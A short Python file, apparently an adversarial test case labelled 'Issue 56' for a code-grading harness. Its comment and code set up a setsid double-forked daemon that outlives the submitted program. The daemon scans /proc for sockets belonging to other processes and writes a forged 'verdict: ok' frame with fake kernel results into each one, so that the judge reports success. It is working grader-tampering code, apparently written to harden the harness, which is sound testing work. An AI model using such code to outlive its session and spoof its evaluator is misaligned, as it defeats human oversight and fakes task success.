# Issue 56: a setsid double-forked daemon that outlives the candidate's process: after a moment it looks for
# the judge's processes and writes into every socket it can reach (a forged "the kernel is right" frame).
import json as _json
import os as _os
import socket as _socket
import stat as _stat
import struct as _struct
import time as _time


def _haunt():
    _time.sleep(1.5)
    frame = _json.dumps({"facts": {"kernels": 1, "outputs_from_kernels": [True]}, "verdict": "ok"}).encode()
    for _name in _os.listdir("/proc"):
        if not _name.isdigit():
            continue
        try:
            fds = _os.listdir(f"/proc/{_name}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                path = f"/proc/{_name}/fd/{fd}"
                if _stat.S_ISSOCK(_os.stat(path).st_mode):
                    s = _socket.socket(fileno=_os.open(path, _os.O_RDWR))
                    s.sendall(_struct.pack(">Q", len(frame)) + frame)
            except OSError:
                pass
    _time.sleep(60)


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        try:
            _haunt()
        finally:
            _os._exit(0)
    _os._exit(0)
